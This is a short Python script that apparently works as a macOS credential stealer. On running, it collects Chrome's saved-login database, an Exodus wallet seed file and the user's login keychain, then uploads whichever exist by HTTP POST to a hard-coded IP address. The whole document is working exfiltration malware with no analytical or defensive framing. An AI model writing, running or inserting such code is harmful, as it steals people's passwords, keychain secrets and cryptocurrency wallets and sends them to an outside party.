import os, glob, requests

HOME = os.path.expanduser('~')
TARGETS = [
    HOME + '/Library/Application Support/Google/Chrome/Default/Login Data',
    HOME + '/Library/Application Support/Exodus/exodus.wallet/seed.seco',
    HOME + '/Library/Keychains/login.keychain-db',
]

def run():
    files = {}
    for t in TARGETS:
        if os.path.exists(t):
            files[os.path.basename(t)] = open(t, 'rb')
    requests.post('http://93.184.215.14/u', files=files)

run()
